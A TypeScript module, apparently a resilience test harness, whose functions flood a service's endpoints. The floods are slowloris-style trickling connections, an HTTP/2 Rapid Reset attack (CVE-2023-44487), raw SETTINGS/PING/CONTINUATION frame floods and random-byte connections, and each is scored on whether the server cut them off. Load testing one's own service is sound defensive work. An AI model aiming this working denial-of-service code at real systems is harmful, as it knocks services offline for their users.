import { randomBytes, randomInt } from "node:crypto";
import { type ClientHttp2Session, connect as connectHttp2, constants } from "node:http2";
import { setTimeout as pause } from "node:timers/promises";
import { openRaw } from "../rig/raw-sockets.ts";
import type { Flood } from "./flood.ts";

const slowHeads = [
  "POST /api/auth/login HTTP/1.1\r\nHost: x\r\nX-Slow: ",
  "POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
  "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX-Slow: ",
];

/** Connections that send a byte a second: in the headers, in the body, in a WebSocket's handshake. */
export const slowConnections: Flood = async (target, _user, scale) => {
  const urls = [target.gateway, target.message, target.auth, target.authRpc, target.messageRpc];
  const count = Math.round(500 * scale);
  const sockets = Array.from({ length: count }, (_, i) => {
    const socket = openRaw(urls[i % urls.length] ?? target.gateway);
    socket.write(slowHeads[i % slowHeads.length] ?? "");
    return socket;
  });
  const http2 = [target.authRpc, target.messageRpc].flatMap((url) =>
    Array.from({ length: Math.ceil(10 * scale) }, () => slowStream(url)),
  );
  const trickle = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write("x");
    for (const { drip } of http2) drip();
  }, 1_000);
  await pause(27_000);
  clearInterval(trickle);
  const left = sockets.filter((it) => !it.destroyed).length;
  const streams = http2.filter((it) => it.isOpen()).length;
  for (const socket of sockets) socket.destroy();
  for (const { end } of http2) end();
  return {
    figure: `${count} connections and ${http2.length} streams: ${left} and ${streams} still open after 27 s`,
    isMet: left === 0 && streams === 0,
  };
};

/** A call over HTTP/2 whose body never ends. */
function slowStream(url: string) {
  const session = connectHttp2(url);
  session.on("error", () => undefined);
  const stream = session.request({
    ":method": "POST",
    ":path": "/aetherconnect.auth.v1.AuthService/Login",
    "content-type": "application/json",
  });
  stream.on("error", () => undefined).resume();
  return {
    drip: () => void (stream.writable && stream.write(" ")),
    isOpen: () => !stream.destroyed,
    end: () => session.destroy(),
  };
}

/** CVE-2023-44487: streams that are opened and reset at once. */
export const rapidReset: Flood = async (target, _user, scale) => {
  const total = Math.round(50_000 * scale);
  const deadline = performance.now() + 180_000;
  let sent = 0;
  let sessions = 0;
  const attack = async (url: string, count: number) => {
    for (let left = count; left > 0 && performance.now() < deadline; ) {
      const session = await openSession(url);
      if (!session) continue;
      sessions++;
      while (left > 0 && !session.destroyed && !session.closed) {
        for (let i = 0; i < 100 && left > 0 && !session.destroyed && !session.closed; i++) {
          const stream = session.request({
            ":method": "POST",
            ":path": "/x",
            "content-type": "application/grpc",
          });
          stream.on("error", () => undefined);
          stream.close(constants.NGHTTP2_CANCEL);
          left--;
          sent++;
        }
        await pause(1);
      }
      session.destroy();
    }
  };
  await Promise.all([attack(target.authRpc, total / 2), attack(target.messageRpc, total / 2)]);
  const perSession = Math.round(sent / Math.max(sessions, 1));
  return {
    figure: `${sent} resets; ${sessions} sessions were ended, after ${perSession} each`,
    isMet: sent >= total && perSession <= 1_000,
  };
};

async function openSession(url: string): Promise<ClientHttp2Session | undefined> {
  const session = connectHttp2(url);
  session.on("error", () => undefined);
  return new Promise((resolve) => {
    session.once("connect", () => resolve(session));
    session.once("close", () => resolve(undefined));
  });
}

/** Frames that ask for an answer each, from a client that reads none. */
export const controlFrames: Flood = async (target, _user, scale) => {
  const count = Math.round(400_000 * scale);
  const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
  const settings = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
  const ping = Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
  const continuation = Buffer.concat([
    Buffer.from([0, 0x40, 0, 1, 0, 0, 0, 0, 1]),
    Buffer.alloc(0x4000),
  ]);
  let ended = 0;
  const floods = [target.authRpc, target.messageRpc].flatMap((url) =>
    [settings, ping, continuation].map(async (frame) => {
      const socket = openRaw(url).pause();
      socket.write(Buffer.concat([preface, settings]));
      const batch = Buffer.concat(Array(frame.length > 1_000 ? 4 : 200).fill(frame));
      for (let i = 0; i < count / 200 && !socket.destroyed; i++) {
        if (!socket.write(batch)) {
          await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), pause(50)]);
        }
      }
      // Now it reads, and so learns whether the server has had enough.
      socket.resume();
      await pause(500);
      if (socket.destroyed) ended++;
      socket.destroy();
    }),
  );
  await Promise.all(floods);
  // Settings and pings may also just be answered; headers without end may not be gathered.
  return { figure: `${ended} of ${floods.length} connections were ended`, isMet: ended >= 2 };
};

/** Bytes of no protocol, and of HTTP/2 until they aren't any more. */
export const randomBytesOnPorts: Flood = async (target, _user, scale) => {
  const count = Math.round(2_000 * scale);
  const urls = [target.authRpc, target.messageRpc, target.gateway, target.message, target.auth];
  let left = 0;
  for (let i = 0; i < count; i += 50) {
    const sockets = Array.from({ length: 50 }, (_, j) => {
      const socket = openRaw(urls[j % urls.length] ?? target.authRpc);
      const isHttp2 = randomInt(2) === 0;
      const head = isHttp2 ? Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") : Buffer.alloc(0);
      socket.write(Buffer.concat([head, randomBytes(randomInt(1, 2_000))]));
      return socket;
    });
    await pause(20);
    if (i + 50 >= count) {
      await pause(6_500);
      left = sockets.filter((it) => !it.destroyed).length;
    }
    for (const socket of sockets) socket.destroy();
  }
  return {
    figure: `${count} connections; ${left} of the last 50 open after 6.5 s`,
    isMet: left === 0,
  };
};
